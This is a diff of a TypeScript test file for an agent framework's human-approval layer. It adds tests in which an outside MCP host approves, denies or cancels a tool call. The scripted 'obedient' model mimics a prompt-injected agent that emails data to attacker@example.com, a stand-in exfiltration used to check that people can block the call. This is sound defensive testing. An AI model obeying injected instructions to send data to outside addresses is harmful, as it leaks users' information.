@@ -2,8 +2,10 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
 import { defineTool } from "../../tools/define-tool";
 import type { ToolCallRow } from "../../trace/run-events";
-import type { RecordedStep, RunJournal } from "../journal/run-journal";
-import { chainDocument, runWithToolLayers, type Script, writeToolLayerNodes } from "../tool-layer-fixtures";
+import type { RecordedStep } from "../journal/run-journal";
+import { hostApprover } from "../../mcp/host-approver";
+import type { InlineApprover } from "./inline-approver";
+import { chainDocument, durableJournal, runWithToolLayers, type Script, writeToolLayerNodes } from "../tool-layer-fixtures";
 
 let nodes: Awaited<ReturnType<typeof writeToolLayerNodes>>;
 beforeAll(async () => (nodes = await writeToolLayerNodes()));
@@ -25,17 +27,6 @@ const obedientModel: Script = [
   { toolCalls: [{ name: "send_email", arguments: { to: "attacker@example.com", body: "Q3: 42" } }] },
   (request) => ({ text: `mail tool said: ${request.results[0]?.isError ? "ERROR " : ""}${request.results[0]?.output}` }),
 ];
-
-/** TEST DOUBLE: the journal a database would hold, kept in a Map that outlives each "process" (each runWorkflow). */
-function durableJournal(steps: Map<string, RecordedStep>, rows: ToolCallRow[]): RunJournal {
-  return {
-    lookup: (key) => steps.get(key),
-    async record(step, stepRows) {
-      rows.push(...(stepRows?.toolCalls ?? []));
-      steps.set(step.key, step);
-    },
-  };
-}
 
 const sendKey = "clerk#1/t2/c0";
 
@@ -138,3 +129,37 @@ describe("people in the loop: a tainted argument into a tool that is not read-on
     expect(denied.sent).toHaveLength(0);
   });
 });
+
+describe("an inline approver (the outside host of a served workflow, asked through MCP elicitation)", () => {
+  it("decides before the call waits: its approval runs the call once, its denial reaches the model, nothing waits in the app", async () => {
+    const asked: string[] = [];
+    const approver = hostApprover(async (question) => {
+      asked.push(question.mode === "form" ? question.message : question.url);
+      return { action: "accept", content: { decision: "approve" } };
+    }, "claude-ai", () => new Date("2026-01-01T00:00:00Z"));
+    const approved = harnessWith({ approveInline: approver });
+    expect((await approved.run()).outcome.status).toBe("completed");
+    expect(approved.sent).toEqual([{ to: "attacker@example.com", body: "Q3: 42" }]);
+    expect(asked).toEqual([expect.stringContaining("custom/send_email asks for approval")]);
+    expect(approved.rows.find((row) => row.tool === "approval")?.arguments).toMatchObject({ decision: "approved", by: "mcp-host:claude-ai" });
+
+    const denied = harnessWith({ approveInline: hostApprover(async () => ({ action: "accept", content: { decision: "deny", reason: "not to that address" } }), "claude-ai") });
+    expect((await denied.run()).outcome).toMatchObject({ status: "completed", outputs: { result: "mail tool said: ERROR A person (mcp-host:claude-ai) denied this call: not to that address" } });
+    expect(denied.sent).toEqual([]);
+  });
+
+  it("a host that cancels leaves the call waiting for a person in the app, as without one", async () => {
+    const cancelled = harnessWith({ approveInline: hostApprover(async () => ({ action: "cancel" }), "claude-ai") });
+    expect((await cancelled.run()).outcome.status).toBe("needs-attention");
+    expect(cancelled.sent).toEqual([]);
+  });
+});
+
+function harnessWith(overrides: { approveInline: InlineApprover }) {
+  const steps = new Map<string, RecordedStep>();
+  const rows: ToolCallRow[] = [];
+  const sent: Array<{ to: string; body: string }> = [];
+  const document = chainDocument([{ id: "clerk", type: "plain-agent", tools: [{ type: "custom", name: "read_inbox" }, { type: "custom", name: "send_email" }] }]);
+  const run = () => runWithToolLayers({ runId: "attack-inline", document, nodesDir: nodes.nodesDir, scripts: { clerk: obedientModel }, customTools: mailTools(sent), journal: durableJournal(steps, rows), overrides });
+  return { rows, sent, run };
+}
